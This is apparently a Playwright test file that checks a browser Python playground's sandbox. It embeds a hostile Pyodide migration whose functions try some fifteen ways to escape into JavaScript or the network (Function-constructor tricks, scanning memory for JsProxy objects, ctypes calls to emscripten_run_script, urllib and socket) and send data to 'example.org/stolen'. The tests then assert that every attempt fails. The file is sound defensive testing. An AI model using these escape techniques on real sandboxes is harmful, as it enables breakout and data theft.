import { expect, test } from '@playwright/test';
import { Playground } from './playground';

/**
 * A migration that tries to get out. Every attempt is a function that returns what it got hold of, or raises. The
 * migration then fails on purpose, with the list of what succeeded as its message.
 */
const attempts = `
import gc

revision = "1"
down_revision = None
TARGET = "https://example.org/stolen"


def js_module():
    import js
    return js.fetch(TARGET)


def js_globals():
    import js
    return [name for name in ("fetch", "postMessage", "indexedDB", "caches", "XMLHttpRequest") if hasattr(js, name)][0]


def js_function_constructor():
    import js
    return js.Object.constructor.new("return fetch")()(TARGET)


def pyodide_js_module():
    import pyodide_js
    return pyodide_js.globals


def run_js():
    from pyodide.code import run_js as run
    return run("fetch('" + TARGET + "')")


def run_js_internal():
    import _pyodide_core
    return _pyodide_core.run_js("1 + 1")


def pyfetch():
    from pyodide.http import pyfetch as fetch
    return fetch(TARGET).send(None)


def open_url():
    from pyodide.http import open_url as fetch
    return fetch(TARGET)


def urllib():
    from urllib.request import urlopen
    return urlopen(TARGET, timeout=2).read()


def socket():
    from socket import create_connection
    return create_connection(("example.org", 80), timeout=2)


def loaded_modules():
    import sys
    names = ("js", "pyodide_js", "_pyodide_core")
    return next(sys.modules[name] for name in names if name in sys.modules and hasattr(sys.modules[name], "fetch"))


def proxies_in_memory():
    for thing in gc.get_objects():
        if type(thing).__name__ in ("JsProxy", "JsCallable", "JsMethod"):
            return thing.constructor.constructor("return fetch")()(TARGET)
    raise LookupError("none")


def c_library():
    import ctypes
    return ctypes.CDLL(None).emscripten_run_script(b"fetch('https://example.org/stolen')")


def subprocess():
    import subprocess as sub
    return sub.run(["true"])


def importlib_js():
    import importlib
    return importlib.import_module("js").fetch


def upgrade():
    got = []
    for attempt in (
        js_module, js_globals, js_function_constructor, pyodide_js_module, run_js, run_js_internal, pyfetch, open_url,
        urllib, socket, loaded_modules, proxies_in_memory, c_library, subprocess, importlib_js,
    ):
        try:
            got.append(attempt.__name__ + " got " + repr(attempt())[:80])
        except BaseException as error:
            print(attempt.__name__, type(error).__name__, str(error)[:100])
    raise RuntimeError("TRIED ALL, GOT [" + "; ".join(got) + "]")


def downgrade():
    pass
`;

test('pasted Python reaches no network, no storage, no messages and no JavaScript', async ({ page, context }) => {
  const elsewhere: string[] = [];
  const origin = new URL(test.info().project.use.baseURL ?? '').origin;
  context.on('request', (request) => {
    if (!request.url().startsWith(origin) && !request.url().startsWith('blob:') && !request.url().startsWith('data:')) {
      elsewhere.push(request.url());
    }
  });
  const playground = new Playground(page);
  await playground.openFiles({ 'hostile.py': attempts }, { engines: ['sqlite'] });
  await playground.run();
  await expect(page.locator('#panel-run')).toContainText('TRIED ALL, GOT []');
  expect(elsewhere.filter((url) => url !== 'about:blank')).toEqual([]);
  // The lock has taken even the `eval` by which a debugger asks: only the lint worker, which runs no pasted code, answers.
  const asked = await Promise.allSettled(page.workers().map((worker) => worker.evaluate(() => typeof fetch)));
  const refusals = asked.flatMap((answer) => (answer.status === 'rejected' ? [String(answer.reason)] : []));
  expect(refusals.join()).toContain('eval is not a function');
});

test("the page's policy binds the workers: none of them reaches another origin", async ({ page }) => {
  const playground = new Playground(page);
  await playground.open();
  await expect(playground.findings.first()).toBeVisible();
  const worker = page.workers().find((each) => each.url().startsWith('blob:'));
  const answer = await worker?.evaluate(() =>
    fetch('https://example.org/').then(
      () => 'reached',
      (error: unknown) => String(error),
    ),
  );
  expect(answer).toContain('Failed to fetch');
  await expect
    .poll(() => page.evaluate(() => document.querySelector('meta[http-equiv]')?.getAttribute('content')))
    .toContain("script-src 'self' 'wasm-unsafe-eval'");
});
